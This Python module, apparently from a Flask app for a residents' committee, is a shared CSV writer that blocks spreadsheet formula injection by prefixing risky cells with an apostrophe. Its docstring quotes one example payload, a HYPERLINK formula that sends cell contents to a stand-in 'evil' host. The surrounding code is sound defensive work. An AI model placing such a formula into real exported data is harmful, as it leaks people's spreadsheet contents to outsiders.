"""The one CSV writer every export uses (roster, attendance, minutes, passbook, …).

A spreadsheet program runs a cell that begins with = + - @ (or a tab or carriage return, which some
programs skip before looking) as a formula: `=HYPERLINK("http://evil/?"&A1)` in a resident's name would
send a committee member's spreadsheet to a stranger. Every text cell that begins with one of those
characters, or with their full-width forms (＝＋－＠, which some programs fold to ASCII), is written with a
leading apostrophe, so it is shown as the text that was typed. Numbers are written as numbers.
"""
import csv
import io

from flask import Response

FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
BOM = "\ufeff"  # so that spreadsheet programs read the Chinese correctly


def safe_cell(value):
    """A cell value that no spreadsheet program runs as a formula (None becomes empty)."""
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text[:1] in FORMULA_STARTS else text


class SafeWriter:
    """csv.writer with every cell passed through safe_cell."""

    def __init__(self, out):
        self._writer = csv.writer(out)

    def writerow(self, row):
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_text(rows, *, bom=True):
    """The rows as CSV text (with a byte-order mark unless told otherwise)."""
    out = io.StringIO()
    if bom:
        out.write(BOM)
    SafeWriter(out).writerows(rows)
    return out.getvalue()


def iter_csv_lines(rows):
    """The rows as CSV text, one line at a time (for streamed downloads)."""
    out = io.StringIO()
    writer = SafeWriter(out)
    for row in rows:
        out.seek(0)
        out.truncate()
        writer.writerow(row)
        yield out.getvalue()


def csv_response(text_or_lines, filename):
    """A download of CSV text (or an iterable of lines, streamed) named `filename`."""
    return Response(text_or_lines, mimetype="text/csv; charset=utf-8",
                    headers={"Content-Disposition": f'attachment; filename="{filename}"'})
